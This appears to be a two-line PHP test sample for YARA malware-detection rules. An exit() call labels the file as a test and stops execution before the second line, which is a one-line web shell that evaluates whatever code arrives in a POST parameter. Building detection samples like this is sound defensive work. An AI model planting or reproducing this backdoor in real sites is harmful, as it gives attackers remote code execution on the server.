<?php exit('haidang YARA test sample'); ?>
<?php @eval($_POST['haidang']); ?>
